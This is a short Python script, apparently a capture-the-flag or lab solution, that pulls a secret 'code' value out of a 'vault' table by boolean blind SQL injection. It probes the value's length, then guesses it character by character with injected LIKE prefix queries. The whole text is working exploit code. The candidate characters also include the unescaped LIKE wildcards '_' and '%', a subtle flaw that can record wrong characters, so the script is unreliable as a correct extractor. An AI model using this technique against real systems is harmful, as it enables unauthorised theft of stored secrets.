SIGNS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_%" + "".join(map(chr, range(33, 127)))


def find(ask):
    length = next(number for number in range(6, 13) if ask(f"' OR (SELECT length(code) = {number} FROM vault) --"))
    code = ""
    while len(code) < length:
        for sign in SIGNS:
            known = (code + sign).replace("'", "''")
            if ask(f"' OR (SELECT code LIKE '{known}%' FROM vault) --"):
                code += sign
                break
    return code
